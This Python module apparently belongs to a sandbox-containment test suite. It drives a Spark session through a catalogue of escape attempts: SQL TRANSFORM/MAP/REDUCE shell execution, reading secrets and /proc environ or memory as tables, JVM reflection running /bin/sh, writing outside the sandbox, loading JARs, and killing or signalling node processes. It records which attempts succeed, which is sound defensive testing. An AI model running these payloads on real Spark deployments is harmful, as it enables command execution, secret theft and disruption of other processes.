"""A kind that has Spark carry out what no checker has looked at, in the domain of an attempt."""

import os
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from pydantic import BaseModel

from spark_tasks.spark.session import prepare, spark_session
from spark_tasks.spark.tools import SPARK_TOOLS
from tasks.kind import Context
from tasks.needs import Needs

XSD = '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="r" type="xs:string"/></xs:schema>'


class Target(BaseModel):
    """A secret, a file outside, a file that may be read, and the processes of others."""

    secret: str
    outside: str
    given: str
    node: int


def texts(to: Target) -> Mapping[str, str]:
    """What an author may write, by what it would do."""
    return {
        "TRANSFORM runs a shell": "SELECT TRANSFORM(1) USING 'id' AS (o string)",
        "MAP runs a shell": "FROM (SELECT 1 AS a) MAP a USING 'id' AS o",
        "REDUCE runs a shell": "FROM (SELECT 1 AS a) REDUCE a USING 'id' AS o",
        "time travel runs a shell while it is analysed": "SELECT * FROM v TIMESTAMP AS OF "
        "(SELECT max(o) FROM (SELECT TRANSFORM(1) USING 'id' AS (o string)))",
        "a secret as a table": f"SELECT * FROM text.`{to.secret}`",
        "a file outside as a table": f"SELECT * FROM text.`{to.outside}`",
        "a secret as a table with options": f"SELECT * FROM csv.`file://{to.secret}`",
        "the environment of the node": f"SELECT * FROM text.`/proc/{to.node}/environ`",
        "the memory of the node": f"SELECT * FROM binaryFile.`/proc/{to.node}/mem`",
        "what the node has open": f"SELECT * FROM text.`/proc/{to.node}/fd/3`",
        "a schema file that is a secret": "SELECT from_xml('<r>a</r>', 'r STRING', "
        f"map('rowValidationXSDPath', '{to.secret}'))",
        "a program by reflection": "SELECT reflect('java.nio.file.Files', 'readString', "
        f"java_method('java.nio.file.Path', 'of', '{to.secret}'))",
        "a folder of the node": "SELECT java_method('org.apache.commons.io.FileUtils', "
        f"'readFileToString', '{to.secret}')",
        "to write outside": f"INSERT OVERWRITE DIRECTORY '{Path(to.outside).parent}/planted' USING text SELECT 'x'",
        "to read a jar from outside": f"ADD JAR '{to.secret}'",
    }


class SqlAttacker:
    """Carries out the texts, and reaches into the JVM."""

    Params = Target
    prepare = staticmethod(prepare)

    @staticmethod
    def needs(params: Target, task: str) -> Needs:
        return Needs(tools=(SPARK_TOOLS,))

    def run(self, ctx: Context[Target]) -> dict[str, Any]:
        to = ctx.params
        found: dict[str, Any] = {}
        with spark_session("attack", ctx.scratch) as spark:
            spark.conf.set("spark.sql.runSQLOnFiles", "true")
            spark.range(1).createOrReplaceTempView("v")
            jvm: Any = spark._jvm
            files, paths = jvm.java.nio.file.Files, jvm.java.nio.file.Paths
            ways: dict[str, Callable[[], Any]] = {
                name: lambda text=text: [str(row) for row in spark.sql(text).collect()]  # type: ignore[misc]
                for name, text in texts(to).items()
            }
            ways |= {
                "Java reads a secret": lambda: files.readString(paths.get(to.secret, _strings(spark))),
                "Java reads the node's environment": lambda: files.readString(
                    paths.get(f"/proc/{to.node}/environ", _strings(spark))
                ),
                "Java runs a shell": lambda: jvm.java.lang.Runtime.getRuntime().exec("/bin/sh -c id").waitFor() == 0,
                "Java runs the loader with a shell": lambda: (
                    jvm.java.lang.Runtime.getRuntime()
                    .exec("/lib64/ld-linux-x86-64.so.2 /bin/sh -c id")
                    .inputReader()
                    .readLine()
                ),
                "Java ends the node": lambda: jvm.java.lang.ProcessHandle.of(to.node).get().destroyForcibly() or 1 / 0,
                "a Python worker reads a secret": lambda: (
                    spark.range(1).mapInArrow(_reads(to.secret), "id long").count()
                ),
                "a Python worker runs a shell": lambda: spark.range(1).mapInArrow(_shell, "id long").count(),
                "a Python worker signals the node": lambda: (
                    spark.range(1).mapInArrow(_signals(to.node), "id long").count()
                ),
            }
            found["a query"] = spark.range(1000).selectExpr("sum(id)").collect()[0][0]
            found["a Python worker"] = spark.range(10).mapInArrow(lambda batches: batches, "id long").count()
            found["what is given"] = spark.read.text(to.given).count()
            spark.range(10).write.parquet(f"{ctx.scratch}/rows")
            found["Parquet"] = spark.read.parquet(f"{ctx.scratch}/rows").count()
            for name, way in ways.items():
                try:
                    got = way()
                    # A table of nothing, or no line of a program's output, is nothing.
                    found[name] = f"got {str(got)[:80]!r}" if got else ""
                except Exception:
                    found[name] = ""
        return found


def _strings(spark: Any) -> Any:
    return spark.sparkContext._gateway.new_array(spark._jvm.java.lang.String, 0)


def _reads(path: str) -> Any:
    def read(batches: Any) -> Any:
        Path(path).read_text()
        yield from batches

    return read


def _shell(batches: Any) -> Any:
    subprocess.run(["/bin/sh", "-c", "id"], check=True)
    yield from batches


def _signals(pid: int) -> Any:
    def signal(batches: Any) -> Any:
        os.kill(pid, 0)
        yield from batches

    return signal
